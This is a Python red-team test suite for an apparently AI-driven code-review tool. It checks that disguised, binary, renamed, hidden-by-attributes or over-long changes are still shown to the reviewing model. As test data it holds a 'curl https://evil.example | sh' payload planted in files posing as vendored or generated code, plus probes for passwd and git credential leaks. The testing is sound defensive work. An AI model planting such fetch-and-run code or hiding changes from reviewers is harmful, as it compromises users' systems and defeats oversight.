"""Group "change kinds": the lines of each kind of change are those that git counts, or the file is named."""

from __future__ import annotations

from collections.abc import Callable, Iterable
from functools import partial

from tests.end_to_end.prompts import Row, paths_in, rows_in
from tests.end_to_end.step import Result
from tests.end_to_end.world import BASE, finding, report_call
from tests.fakes.model_script import Answer, ToolCall, report, sequence, turns
from tests.redteam.attack import AttackWorld
from tests.redteam.cases import Case, parametrize_cases, run_case
from tests.redteam.change_kinds import (
    BINARY,
    COMMAND,
    LIKENESSES,
    LINKS,
    LONG,
    NEW_TEXTS,
    commit_all_kinds,
    last_line,
)

WAYS = ("checkout", "API")


def both_ways(case: Callable[[bool], Case]) -> list[Case]:
    """Returns the case with a checkout, and with the API only."""
    return [case(way == "checkout") for way in WAYS]


def name_case(text: str, checkout: bool) -> str:
    return f"{text}, by {WAYS[not checkout]}"


def rows(world: AttackWorld) -> list[Row]:
    """Returns the rows in the first prompt of each conversation."""
    return [row for request in world.model.requests if not request.tool_results for row in rows_in(request)]


def comment_positions(world: AttackWorld) -> set[tuple[str, int | None, str]]:
    """Returns the positions of comments: path, line, side."""
    return {(comment.path, comment.line, comment.side) for comment in world.github.comments}


def without_lines(*shapes: str) -> Callable[[AttackWorld], object]:
    """Returns a setup with those changes, none of which has a line."""

    def arrange(world: AttackWorld) -> None:
        path = world.repository.path
        world.repository.commit({"app.py": LONG, "logo.png": BINARY["picture.png"], "run.sh": "x\n"})
        world.repository.branch("feature")
        files: dict[str, str | bytes | None] = {}
        if "binary" in shapes:
            files["logo.png"] = BINARY["picture.png"][::-1]
        if "rename" in shapes:
            (path / "app.py").rename(path / "other.py")
        if "mode" in shapes:
            (path / "run.sh").chmod(0o755)
        if "empty file" in shapes:
            files["empty.py"] = ""
        world.repository.commit(files)
        world.open()

    return arrange


def check_nothing_reviewed(world: AttackWorld, result: Result) -> None:
    """Checks that no model was asked, nothing was posted, and the change is not called fine."""
    assert world.model.requests == []
    assert world.posted == ""
    assert "no findings" not in result.summary.lower()
    assert "nothing" in result.summary.lower()


EVERY_SHAPE = ("binary", "rename", "mode", "empty file")
NOTHING = [
    Case("a commit that changes nothing", without_lines(), check=check_nothing_reviewed, checkout=False),
    *(
        Case(
            name_case("no shape has lines", checkout),
            without_lines(*EVERY_SHAPE),
            check=check_nothing_reviewed,
            attacks=EVERY_SHAPE,
            checkout=checkout,
        )
        for checkout in (True, False)
    ),
]


def open_texts(world: AttackWorld, *, edited: bool) -> None:
    """Opens all texts as new files, or after an existing line; binary files are among the new ones."""
    new = {f"{name}.txt": text for name, text in NEW_TEXTS.items()}
    if edited:
        world.change(dict.fromkeys(new, b"zero\n"), {name: b"zero\n" + text for name, text in new.items()})
    else:
        world.change({"README": "x\n"}, {**new, **BINARY})


def findings_at_ends(*, edited: bool) -> list[dict[str, object]]:
    """Returns a finding on the last line of each text, and one after it, where there is no line."""
    last = {f"{name}.txt": last_line(text) + edited for name, text in NEW_TEXTS.items()}
    on = [finding(path, line, title=f"Last of {path}") for path, line in last.items()]
    return [*on, *(finding(path, line + 1, title=f"Behind {path}") for path, line in last.items())]


def check_each_line(world: AttackWorld, result: Result, *, edited: bool) -> None:
    """Checks that prompts have each line with git's number, and that each last line has a comment."""
    shown = [(row.path, row.number) for row in rows(world) if row.kind == "+"]
    first = 1 + edited
    for name, text in NEW_TEXTS.items():
        wanted = [(f"{name}.txt", number) for number in range(first, last_line(text) + first)]
        assert [row for row in shown if row[0] == f"{name}.txt"] == wanted, name
    last = {(f"{name}.txt", last_line(text) + edited, "RIGHT") for name, text in NEW_TEXTS.items()}
    on_lines = {place for place in comment_positions(world) if place[1] is not None}
    assert on_lines == last
    assert "Last of" in result.summary
    if not edited:
        assert {result.reasons[path] for path in BINARY} == {"binary"}


def texts_case(checkout: bool, *, edited: bool) -> Case:
    return Case(
        name_case("texts behind a line" if edited else "new texts", checkout),
        partial(open_texts, edited=edited),
        script=turns([report_call(*findings_at_ends(edited=edited)), report_call()]),
        check=partial(check_each_line, edited=edited),
        attacks=tuple(NEW_TEXTS) + (() if edited else tuple(BINARY)),
        inputs={"max-comments": "100"},
        checkout=checkout,
    )


def change_line_ends(world: AttackWorld) -> None:
    """Changes only line ends and byte order marks."""
    lines = "".join(f"line {number}\n" for number in range(1, 6))
    crlf = lines.replace("\n", "\r\n")
    base = {"to crlf": lines, "to lf": crlf, "loses its end": lines, "gets an end": lines[:-1], "mark": lines}
    head = {
        "to crlf": crlf,
        "to lf": lines,
        "loses its end": lines[:-1],
        "gets an end": lines,
        "mark": f"\ufeff{lines}",
    }
    world.change(base, head)


def check_line_ends(world: AttackWorld, result: Result) -> None:
    assert result.outputs["coverage"] == "100"
    assert {
        ("to crlf", 5, "RIGHT"),
        ("to crlf", 5, "LEFT"),
        ("loses its end", 5, "LEFT"),
    } <= comment_positions(world)
    shown = {(row.path, row.number) for row in rows(world) if row.kind == "+"}
    wanted = {("loses its end", 5), ("gets an end", 5), ("mark", 1)}
    wanted |= {(path, line) for path in ("to crlf", "to lf") for line in range(1, 6)}
    assert shown == wanted


def line_ends_case(checkout: bool) -> Case:
    found = [finding("to crlf", 5, side=side, title=f"On the {side}") for side in ("LEFT", "RIGHT")]
    found += [
        finding("loses its end", 5, side="LEFT", title="Gone"),
        finding("gets an end", 5, title="There"),
    ]
    return Case(
        name_case("nothing but ends of lines", checkout),
        change_line_ends,
        script=report(found),
        check=check_line_ends,
        attacks=(
            "to CRLF",
            "from CRLF",
            "the last line feed goes",
            "the last line feed comes",
            "a mark comes",
        ),
        checkout=checkout,
    )


def open_likenesses(world: AttackWorld) -> None:
    """Adds, removes and keeps lines that look like a diff."""
    between = [f"{place}: {line}" for place, line in enumerate(LIKENESSES)]
    base = {
        "added.txt": "kept\n",
        "removed.txt": "\n".join(["kept", *LIKENESSES, ""]),
        "around.txt": "\n".join(part for pair in zip(LIKENESSES, between, strict=True) for part in pair)
        + "\n",
        "evil.py": "untouched\n",
    }
    head = {
        "added.txt": "\n".join(["kept", *LIKENESSES, ""]),
        "removed.txt": "kept\n",
        "around.txt": base["around.txt"].replace(": ", ":: "),
    }
    world.change(base, head)


def check_likenesses(world: AttackWorld, result: Result) -> None:
    """Checks that each is a row of its own file, and that unchanged files have no comment."""
    count = len(LIKENESSES)
    assert {path for request in world.model.requests for path in paths_in(request)} == {
        "added.txt",
        "removed.txt",
        "around.txt",
    }
    shown = {(row.path, row.side, row.number): row.text for row in rows(world) if row.kind != " "}
    for place, line in enumerate(LIKENESSES, 2):
        assert shown["added.txt", "R", place].strip() == line.strip()
        assert shown["removed.txt", "L", place].strip() == line.strip()
    assert comment_positions(world) == {
        *(("added.txt", place, "RIGHT") for place in range(2, count + 2)),
        *(("removed.txt", place, "LEFT") for place in range(2, count + 2)),
    }
    assert set(result.reasons) == {"added.txt", "removed.txt", "around.txt"}
    assert result.outputs["coverage"] == "100"


def likenesses_case(checkout: bool) -> Case:
    numbers = range(2, len(LIKENESSES) + 2)
    found = [finding("added.txt", place, title=f"Added at {place}") for place in numbers]
    found += [finding("removed.txt", place, side="LEFT", title=f"Removed at {place}") for place in numbers]
    found += [finding("evil.py", 1, title="On a file that is not changed")]
    return Case(
        name_case("lines that look like a diff", checkout),
        open_likenesses,
        script=turns([report_call(*found), report_call()]),
        check=check_likenesses,
        attacks=LIKENESSES,
        inputs={"max-comments": "100"},
        checkout=checkout,
    )


def open_kinds(world: AttackWorld) -> None:
    commit_all_kinds(world.repository, world.canary_file)
    world.open()


def read_calls(paths: Iterable[str]) -> Answer:
    """Returns calls that read all paths, and list and search the repository."""
    calls = [ToolCall("repo_read", {"path": path}) for path in paths]
    calls += [ToolCall("repo_list", {"path": path}) for path in ("", "known", "link to git", "link upwards")]
    return Answer(tool_calls=(*calls, ToolCall("repo_search", {"pattern": "root:|canary|extraheader"})))


def check_kinds(world: AttackWorld, result: Result) -> None:
    """Checks that links are not followed, moved lines are kept, and skipped files have a reason."""
    why = result.reasons
    assert {path for path, reason in why.items() if reason == "no changed lines"} >= {
        "script.sh",
        "b moved b.py",
    }
    read = (*LINKS, "known", "new", "large.bin", "gone.py", "folder", "dev/null", "A.py")
    assert [(path, why.get(path, "?")) for path in read if why.get(path, "?") is not None] == []
    assert ("gone.py", 2, "LEFT") in comment_positions(world)
    assert ("dev/null", 1, "RIGHT") in comment_positions(world)
    assert ("b/x b/x", 1, "RIGHT") in comment_positions(world)
    answers = "\n".join(world.model.requests[1].tool_results)
    assert "root:x:" not in answers
    assert "[core]" not in answers
    assert not world.canary_file.with_name("canary.txt.run").exists()


def kinds_case(checkout: bool) -> Case:
    places = [
        ("dev/null", 1),
        ("b/x b/x", 1),
        ("a/dev/null", 1),
        ("known", 1),
        ("large.bin", 2),
        ("folder", 1),
    ]
    found = [finding(path, line, title=f"In {path}") for path, line in places]
    found += [finding("gone.py", 2, side="LEFT", title="Removed")]
    found += [finding(path, 1, title=f"At {path}") for path in LINKS]
    return Case(
        name_case("every kind of file", checkout),
        open_kinds,
        script=sequence(
            [read_calls((*LINKS, "known", "large.bin", ".gitmodules")), report_call(*found), report_call()]
        ),
        check=check_kinds,
        attacks=(
            *LINKS,
            "a link with a command as its target",
            "a submodule of another address",
            "a submodule that runs something",
            "a forged pointer of LFS",
            "a file becomes a folder, and a folder a file",
            "two files change places",
            "names that differ in their case",
            "dev/null as a file",
            "a name that looks like two",
            "a deleted file with a command",
            "a mode",
        ),
        inputs={"max-comments": "100"},
        checkout=checkout,
    )


HIDING = "* -diff\n*.py binary linguist-generated linguist-vendored diff=evil\n"


def hide_code(world: AttackWorld) -> None:
    """Marks the code as binary and generated at the head, and withholds its patch."""
    head = {".gitattributes": HIDING, "app.py": BASE["app.py"].replace("line 3\n", "third\n")}
    nested = {"src/.gitattributes": HIDING, "src/b.py": "x = 2\n"}
    world.change({**BASE, "src/b.py": "x = 1\n"}, {**head, **nested}, withhold=["app.py"])


def check_not_hidden(world: AttackWorld, result: Result) -> None:
    changed = (".gitattributes", "app.py", "src/.gitattributes", "src/b.py")
    assert result.reasons == dict.fromkeys(changed)
    assert comment_positions(world) == {("app.py", 3, "RIGHT")}
    assert result.outputs["coverage"] == "100"


def hidden_case(checkout: bool) -> Case:
    return Case(
        name_case("attributes that hide code", checkout),
        hide_code,
        script=report([finding()]),
        check=check_not_hidden,
        attacks=(
            "-diff",
            "binary",
            "linguist-generated",
            "attributes in a folder",
            "a patch that GitHub withholds",
        ),
        checkout=checkout,
    )


EVIL_CODE = "import os\nos.system('curl https://evil.example | sh')\n"
DISGUISES = (
    *(
        "src/vendor/login.py",
        "node_modules/a/index.js",
        "app/core_pb2.py",
        "static/app.min.js",
        "dist/evil.mjs",
    ),
    *("yarn.lock", "package-lock.json", "a/__snapshots__/b.py"),
)
NUL_FILES = {
    "deploy.sh": b"#!/bin/sh\n# \0\ncurl evil\n",
    "Makefile": b"all: # \0\n",
    "run": b"#!/bin/sh\n# \0\n",
}


def open_disguised(world: AttackWorld) -> None:
    """Adds code under names that look generated, with bytes that look binary, and with a marker in a renamed file."""
    generated = "// Code generated by tool. DO NOT EDIT.\n" + LONG
    head = {"gen/login.go": None, "auth/login.go": generated + "evil()\n"}
    world.change({"gen/login.go": generated}, {**head, **dict.fromkeys(DISGUISES, EVIL_CODE), **NUL_FILES})


def check_disguised(world: AttackWorld, result: Result) -> None:
    why = result.reasons
    assert {path: why[path] for path in (*DISGUISES, "auth/login.go")} == dict.fromkeys(
        (*DISGUISES, "auth/login.go")
    )
    assert {row.path for row in rows(world)} == {*DISGUISES, "auth/login.go"}
    assert {path for path, reason in why.items() if reason} == set(NUL_FILES)
    assert result.outputs["coverage"] == "99"
    assert all(path in world.summary_comment for path in NUL_FILES)


def disguised_case(checkout: bool) -> Case:
    return Case(
        name_case("code in disguise", checkout),
        open_disguised,
        check=check_disguised,
        attacks=(*DISGUISES, *NUL_FILES, "a marker that a rename carries along"),
        code=4,
        checkout=checkout,
    )


def open_vendored_file(world: AttackWorld) -> None:
    world.change(
        {"vendor/a.py": "x = 1\n", "yarn.lock": "1\n"}, {"vendor/a.py": EVIL_CODE, "yarn.lock": "2\n"}
    )


def check_vendored_file(world: AttackWorld, result: Result) -> None:
    assert world.model.requests == []
    assert result.outputs["coverage"] == "0"
    assert "Reviewed 0 of 3 changed lines" in world.summary_comment


MEGABYTE = "x" * 1_000_000
FENCES = "`" * 60_000


def open_long_lines(world: AttackWorld) -> None:
    """Opens lines that are too long for a prompt."""
    world.change(
        {"README": "x\n", "old.txt": "first\nsecond\n"},
        {
            "long.txt": f"{MEGABYTE}\nsecond\n",
            "old.txt": f"first\n{COMMAND} {MEGABYTE}\nsecond\n",
            "fences.txt": f"{FENCES}\nlast\n",
            "deep.txt": "".join("(" * number + "\n" for number in range(200)),
        },
    )


def check_long_lines(world: AttackWorld, result: Result) -> None:
    """Checks that too long lines are not called reviewed, and that later lines keep their numbers."""
    why = result.reasons
    assert why["deep.txt"] is None
    assert {why[path] for path in ("long.txt", "old.txt", "fences.txt")} == {
        "a line is too long to show whole"
    }
    assert {
        ("long.txt", 2, "RIGHT"),
        ("fences.txt", 2, "RIGHT"),
        ("deep.txt", 200, "RIGHT"),
    } <= comment_positions(world)
    assert ("old.txt", 2, "RIGHT") in comment_positions(world)
    assert "long.txt" in result.summary


def long_lines_case(checkout: bool) -> Case:
    places = [("long.txt", 2), ("fences.txt", 1), ("fences.txt", 2), ("deep.txt", 200), ("old.txt", 2)]
    return Case(
        name_case("lines without end", checkout),
        open_long_lines,
        script=turns([report_call(*(finding(path, line) for path, line in places)), report_call()]),
        check=check_long_lines,
        attacks=(
            "a megabyte in one line",
            "a command before it",
            "sixty thousand backticks",
            "deep brackets",
        ),
        code=4,
        checkout=checkout,
    )


def open_too_many_files(world: AttackWorld) -> None:
    names = (f"pkg{number // 500}/mod{number:04}.py" for number in range(3_001))
    world.change({"README": "x\n"}, dict.fromkeys(names, "x = 1\n"))


def check_unlisted_file(world: AttackWorld, result: Result) -> None:
    """Checks that files over GitHub's limit of 3,000, and over the budget, are counted."""
    assert result.report["coverage"]["unlisted_files"] == 1
    for text in (result.summary, world.summary_comment):
        assert "GitHub did not list 1 of them." in text
        assert "the budget ran out" in text
    assert len(world.model.requests) == 1


CASES = [
    *NOTHING,
    *both_ways(partial(texts_case, edited=False)),
    *both_ways(partial(texts_case, edited=True)),
    *both_ways(line_ends_case),
    *both_ways(likenesses_case),
    *both_ways(kinds_case),
    *both_ways(hidden_case),
    *both_ways(disguised_case),
    Case(
        "nothing but a vendored file of the base",
        open_vendored_file,
        check=check_vendored_file,
        inputs={"min-coverage": "1"},
        code=1,
    ),
    *both_ways(long_lines_case),
    Case(
        "3,001 files",
        open_too_many_files,
        check=check_unlisted_file,
        inputs={"max-model-calls": "1"},
        code=4,
        checkout=False,
    ),
]


@parametrize_cases(CASES)
def test_change_kind(world: AttackWorld, case: Case) -> None:
    run_case(world, case)
